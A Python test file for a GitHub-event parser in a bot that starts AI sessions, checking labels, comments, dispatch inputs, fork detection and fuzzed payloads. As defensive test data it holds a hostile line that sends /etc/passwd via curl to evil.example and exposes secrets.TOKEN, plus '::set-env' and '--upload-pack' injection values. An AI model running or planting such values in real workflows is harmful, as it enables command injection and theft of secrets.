import json
from dataclasses import asdict
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bot.core.events import (
    MAX_BODY,
    MAX_TEXT,
    CommandAsked,
    ContinueSession,
    Ignored,
    LaunchAsked,
    LaunchDispatched,
    PullChanged,
    RefreshStatus,
    intent,
)
from tests.core.payloads import Payload, commented, dispatched, labeled, pull


def reason(event: str, payload: object) -> str:
    found = intent(event, payload)
    assert isinstance(found, Ignored), found
    return found.reason


def asked(payload: Payload) -> LaunchAsked:
    found = intent("issues", payload)
    assert isinstance(found, LaunchAsked), found
    return found


def changed(payload: Payload, **parts: object) -> Payload:
    """The payload with values replaced; `__` goes one deeper."""
    for path, value in parts.items():
        *above, last = path.split("__")
        inner = payload
        for step in above:
            inner = inner[step]
        inner[last] = value
    return payload


def test_a_label_of_ours_asks_for_a_session() -> None:
    assert asked(labeled(body="please")) == LaunchAsked(
        issue=7,
        label="swarm:launch",
        sender="ada",
        sender_is_bot=False,
        author="stranger",
        title="Research the clouds",
        body="please",
        labels=("research", "swarm:launch"),
    )


def test_a_label_counts_in_any_case_as_it_does_for_github() -> None:
    assert asked(labeled("Swarm:Cloud")).label == "Swarm:Cloud"


@pytest.mark.parametrize(
    ("label", "why"),
    [
        ("bug", 'the label "bug" is not one of ours; they start with swarm:'),
        ("swarm", 'the label "swarm" is not one of ours; they start with swarm:'),
        (None, 'the payload of "issues" cannot be used: the label\'s name is missing'),
        (5, 'the payload of "issues" cannot be used: the label\'s name is of the wrong kind'),
    ],
)
def test_other_labels_are_ignored(label: Any, why: str) -> None:
    assert reason("issues", changed(labeled(), label__name=label)) == why


def test_other_actions_on_issues_are_ignored() -> None:
    why = 'an issue was "edited"; only a label that starts with swarm: starts something'
    assert reason("issues", changed(labeled(), action="edited")) == why


def test_a_label_on_a_pull_request_is_ignored() -> None:
    payload = changed(labeled(), issue__pull_request={"url": "https://api.github.com/repos/acme/widgets/pulls/7"})
    assert reason("issues", payload) == (
        'the label "swarm:launch" was set on a pull request; sessions start from issues'
    )


@pytest.mark.parametrize("number", [None, 0, -1, True, 1.5, "7", 2**53, [7]])
def test_an_issue_needs_a_number(number: object) -> None:
    why = reason("issues", changed(labeled(), issue__number=number))
    assert why.startswith('the payload of "issues" cannot be used: the number of the issue is ')


def test_a01_texts_stay_as_they_are() -> None:
    evil = '"; curl https://evil.example/$(cat /etc/passwd) `id` ${{ secrets.TOKEN }}'
    found = asked(changed(labeled(body=evil), issue__title=evil))
    assert (found.title, found.body) == (evil, evil)


def test_a06_the_body_is_the_one_of_the_event() -> None:
    payload = changed(labeled(body="as labelled"), changes={"body": {"from": "before"}}, issue__body_text="later")
    assert asked(payload).body == "as labelled"


def test_a06_an_issue_without_a_body_has_an_empty_one() -> None:
    assert asked(labeled(body=None)).body == ""


def test_a08_only_the_sender_counts_as_who_did_it() -> None:
    payload = changed(
        labeled(),
        actor={"login": "root"},
        sender__name="root",
        head_commit={"author": {"username": "root", "name": "root"}},
        commits=[{"committer": {"username": "root"}}],
        issue__user__login="root",
        installation={"account": {"login": "root"}},
    )
    assert (asked(payload).sender, asked(payload).author) == ("ada", "root")


@pytest.mark.parametrize("sender", [None, {}, {"login": None}, {"login": "a b"}, {"login": "x\n::set-env"}, "ada"])
def test_a08_without_a_sender_nothing_is_done(sender: object) -> None:
    why = 'the payload of "issues" cannot be used: it does not say who caused it (sender)'
    assert reason("issues", changed(labeled(), sender=sender)) == why


@pytest.mark.parametrize(
    ("sender", "bot"),
    [
        ({"login": "ada", "type": "User"}, False),
        ({"login": "dependabot[bot]", "type": "Bot"}, True),
        ({"login": "helper[bot]", "type": "User"}, True),
        ({"login": "Copilot", "type": "Bot"}, True),
        ({"login": "acme", "type": "Organization"}, True),
        ({"login": "ada"}, True),
    ],
)
def test_a08_who_is_not_said_to_be_a_person_is_none(sender: Payload, bot: bool) -> None:
    assert asked(changed(labeled(), sender=sender)).sender_is_bot is bot


def test_an_author_whose_account_is_gone_has_no_name() -> None:
    assert asked(changed(labeled(), issue__user=None)).author == ""


def test_a26_texts_are_bounded_and_can_be_written() -> None:
    payload = changed(
        labeled(body="x" * 10_000_000),
        issue__title="half \ud83d of a character",
        issue__labels=[{"name": "l" * 5_000}, {"name": None}, "x", *({"name": str(n)} for n in range(500))],
    )
    found = asked(payload)
    assert len(found.body) == MAX_BODY
    assert found.title == "half ? of a character"
    assert len(found.labels[0]) == 1_000 and len(found.labels) == 98
    assert asked(changed(labeled(), issue__labels="many")).labels == ()


def test_a26_a_reason_is_one_short_line() -> None:
    why = reason("issues", changed(labeled(), label__name="bug\n::set-env name=X::" + "y" * 100_000))
    assert "\n" not in why and "\\n::set-env" in why and len(why) < 200
    assert (
        reason("x" * 100_000, {}).startswith('nothing is done at the event "xxx')
        and len(reason("x" * 999, {})) < 200
    )


def test_names_in_other_scripts_are_shown_as_they_are() -> None:
    assert reason("issues", labeled("错误")) == 'the label "错误" is not one of ours; they start with swarm:'


# --- issue_comment -----------------------------------------------------------------------------------------


def test_a_comment_tells_a_session_something() -> None:
    assert intent("issue_comment", commented("/swarm budget +5\n\nIt is worth it.")) == CommandAsked(
        issue=7, comment=4711, text="/swarm budget +5", sender="ada", sender_is_bot=False
    )


@pytest.mark.parametrize(
    ("body", "text"),
    [
        ("/swarm", "/swarm"),
        ("\r\n \n  /swarm stop \r\n/swarm resume", "/swarm stop"),
        ("/Swarm\tSTOP", "/Swarm\tSTOP"),
        ("/swarm explain " + "x" * 5_000, ("/swarm explain " + "x" * 5_000)[:MAX_TEXT]),
        ("/swarm \ud83d", "/swarm ?"),
    ],
)
def test_the_first_line_that_says_something_counts(body: str, text: str) -> None:
    found = intent("issue_comment", commented(body))
    assert isinstance(found, CommandAsked)
    assert found.text == text


@pytest.mark.parametrize(
    "body", ["", "\n\n", "Thanks!\n/swarm stop", "> /swarm stop", "/swarming", "/swarm-stop", None, 5]
)
def test_other_comments_are_ignored(body: object) -> None:
    assert reason("issue_comment", commented(body)) == "the comment does not begin with /swarm"


@pytest.mark.parametrize("action", ["edited", "deleted"])
def test_a_comment_that_is_changed_later_tells_nothing(action: str) -> None:
    why = f'a comment was "{action}"; only a new one tells a session something'
    assert reason("issue_comment", commented(action=action)) == why


def test_a_comment_on_a_pull_request_is_ignored() -> None:
    payload = changed(
        commented(), issue__pull_request={"url": "https://api.github.com/repos/acme/widgets/pulls/7"}
    )
    assert reason("issue_comment", payload) == (
        "a pull request was commented on; sessions are told something in their issues"
    )


@pytest.mark.parametrize("number", [None, 0, -1, True, 1.5, "7", 2**53])
def test_a_comment_needs_an_id(number: object) -> None:
    why = reason("issue_comment", changed(commented(), comment__id=number))
    assert why.startswith('the payload of "issue_comment" cannot be used: the id of the comment is ')


def test_a08_who_comments_is_the_sender_and_may_be_a_program() -> None:
    found = intent("issue_comment", changed(commented(), sender={"login": "helper[bot]", "type": "Bot"}))
    assert isinstance(found, CommandAsked)
    assert (found.sender, found.sender_is_bot) == ("helper[bot]", True)
    assert "sender" in reason("issue_comment", changed(commented(), sender=None))


# --- workflow_dispatch -------------------------------------------------------------------------------------


def test_a_run_started_by_hand_asks_for_a_session() -> None:
    payload = dispatched(mission=" cloud-providers ", budget="2.50", backend="claude", issue="#7")
    assert intent("workflow_dispatch", payload) == LaunchDispatched(
        "cloud-providers", "2.50", "claude", 7, "ada", "issue-#7"
    )


@pytest.mark.parametrize("left_out", ["", None, "0", 0])
def test_what_is_left_out_of_a_run_is_empty(left_out: object) -> None:
    payload = dispatched(mission="cloud", issue=left_out, session="")
    assert intent("workflow_dispatch", payload) == LaunchDispatched(
        "cloud", "", "", None, "ada", "issue-0" if left_out in ("0", 0) else "mission-cloud"
    )


def test_a_run_with_a_session_goes_on_with_it() -> None:
    payload = dispatched(session="cloud-1", mission="cloud")
    assert intent("workflow_dispatch", payload) == ContinueSession("cloud-1", "ada", "mission-cloud")
    alone = dispatched(session="cloud-1")
    assert intent("workflow_dispatch", alone) == ContinueSession("cloud-1", "ada", "mission-")
    asked = dispatched(session="cloud-1", issue="7")
    assert intent("workflow_dispatch", asked) == ContinueSession("cloud-1", "ada", "issue-7")


@pytest.mark.parametrize(
    ("inputs", "why"),
    [
        ({}, "neither the input mission nor the input session says what to run"),
        ({"mission": "cloud", "issue": "seven"}, 'the input issue is "seven", which is no number'),
        ({"mission": "cloud", "issue": "٣"}, 'the input issue is "٣", which is no number'),
        ({"session": "../x"}, 'the input session is "../x", which is no session\'s id'),
        ({"session": "-x"}, 'the input session is "-x", which is no session\'s id'),
        ({"session": "a" * 65}, f'the input session is "{"a" * 60}…", which is no session\'s id'),
    ],
)
def test_a19_a_run_with_inputs_that_cannot_be(inputs: Payload, why: str) -> None:
    assert (
        reason("workflow_dispatch", dispatched(**inputs)).removeprefix(
            'the payload of "workflow_dispatch" cannot be used: '
        )
        == why
    )


def test_a_run_of_the_status_workflow_refreshes() -> None:
    assert intent("workflow_dispatch", dispatched("swarm-status.yml")) == RefreshStatus()


@pytest.mark.parametrize("workflow", ["ci.yml", "my-swarm-session.yml", ""])
def test_other_workflows_are_ignored(workflow: str) -> None:
    why = f'the workflow ".github/workflows/{workflow}" is not one of ours'
    assert reason("workflow_dispatch", dispatched(workflow, mission="cloud")) == why


def test_a_dispatch_that_names_no_workflow_is_ignored() -> None:
    assert reason("workflow_dispatch", {}) == 'the workflow "" is not one of ours'


# --- the others --------------------------------------------------------------------------------------------


def test_time_and_completed_runs_refresh_the_status() -> None:
    assert intent("schedule", {"schedule": "*/30 * * * *"}) == RefreshStatus()
    assert intent("workflow_run", {"action": "completed"}) == RefreshStatus()
    run = {"display_title": "cloud-1 goes on"}
    assert intent("workflow_run", {"action": "completed", "workflow_run": run}) == RefreshStatus("cloud-1 goes on")
    assert reason("workflow_run", {"action": "requested"}) == (
        'a run was "requested"; the status is refreshed when one is completed'
    )


@pytest.mark.parametrize("action", ["opened", "synchronize", "reopened", "ready_for_review"])
def test_a_pull_request_that_changed(action: str) -> None:
    assert intent("pull_request", pull(action)) == PullChanged(
        number=12,
        head="swarm/cloud-1",
        head_sha="a" * 40,
        base="main",
        base_sha="b" * 40,
        same_repository=True,
        author="ada",
    )


def test_a_review_counts_too() -> None:
    assert isinstance(intent("pull_request_review", pull("submitted")), PullChanged)
    assert reason("pull_request_review", pull("opened")) == (
        'a review was "opened"; that changes nothing that the gate looks at'
    )


@pytest.mark.parametrize("action", ["closed", "labeled", None, 3, ["opened"], {"opened": 1}])
def test_other_actions_on_pull_requests_are_ignored(action: object) -> None:
    said = f'"{action}"' if isinstance(action, str) else "changed in a way that is not said"
    why = f"a pull request was {said}; that changes nothing that the gate looks at"
    assert reason("pull_request", changed(pull(), action=action)) == why


@pytest.mark.parametrize("repository", ["mallory/widgets", "acme/widgets2", "", None])
def test_a09_a_fork_is_known_as_one(repository: str | None) -> None:
    found = intent("pull_request", pull(repository=repository))
    assert isinstance(found, PullChanged) and not found.same_repository


def test_a09_two_repositories_without_names_are_not_the_same() -> None:
    for name in (None, "", 5):
        repo = {"full_name": name}
        payload = changed(pull(), pull_request__base__repo=repo, pull_request__head__repo=repo)
        found = intent("pull_request", payload)
        assert isinstance(found, PullChanged) and not found.same_repository


@pytest.mark.parametrize(
    ("path", "value"),
    [
        ("pull_request__head__ref", "a b"),
        ("pull_request__head__ref", "a\nb"),
        ("pull_request__head__ref", "\ud800"),
        ("pull_request__base__ref", ""),
        ("pull_request__base__ref", "x" * 1_001),
        ("pull_request__head__sha", "--upload-pack=x"),
        ("pull_request__base__sha", None),
        ("pull_request__number", "12"),
        ("pull_request__head", "main"),
    ],
)
def test_a26_a_pull_request_that_cannot_be(path: str, value: object) -> None:
    why = reason("pull_request", changed(pull(), **{path: value}))
    assert why.startswith('the payload of "pull_request" cannot be used: the ')


@pytest.mark.parametrize("event", ["push", "commit_comment", "pull_request_target", "", "\x00"])
def test_events_that_are_not_ours_are_ignored(event: str) -> None:
    assert reason(event, {}) == f"nothing is done at the event {json.dumps(event)}"


TEXTS = st.text(st.characters(), max_size=20) | st.sampled_from(["swarm:x", "x" * 70_000, "\ud800", "7"])
JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | TEXTS,
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(TEXTS, inner, max_size=3),
    max_leaves=8,
)
BASES = [
    ("issues", labeled),
    ("issue_comment", commented),
    ("workflow_dispatch", lambda: dispatched(mission="cloud", issue="7", budget="1", backend="claude")),
    ("workflow_dispatch", lambda: dispatched(session="cloud-1")),
    ("pull_request", pull),
    ("pull_request_review", lambda: pull("submitted")),
    ("workflow_run", lambda: {"action": "completed"}),
]


def paths(value: object, path: tuple[str, ...] = ()) -> list[tuple[str, ...]]:
    if not isinstance(value, dict):
        return [path]
    return [path, *(found for key, inner in value.items() for found in paths(inner, (*path, key)))]


def mutated(payload: Any, path: tuple[str, ...], value: object) -> Any:
    if not path:
        return value
    return {**payload, path[0]: mutated(payload[path[0]], path[1:], value)}


def holds(event: str, payload: object) -> None:
    """No traceback, nothing huge, nothing that cannot be written to a file."""
    found = intent(event, payload)
    text = json.dumps(asdict(found), ensure_ascii=False)
    text.encode()
    assert len(text) < 6 * MAX_BODY
    if isinstance(found, Ignored):
        assert found.reason and len(found.reason) < 1_000 and found.reason.isprintable()


@settings(deadline=None, max_examples=300)
@given(base=st.sampled_from(BASES), data=st.data())
def test_a26_any_value_anywhere_gives_no_traceback(base: Any, data: st.DataObject) -> None:
    event, make = base
    payload = make()
    for _ in range(data.draw(st.integers(1, 3))):
        path = data.draw(st.sampled_from(paths(payload)))
        payload = mutated(payload, path, data.draw(JSON))
    holds(event, payload)


@settings(deadline=None)
@given(event=TEXTS, payload=JSON)
def test_a26_anything_at_all_gives_no_traceback(event: str, payload: object) -> None:
    holds(event, payload)
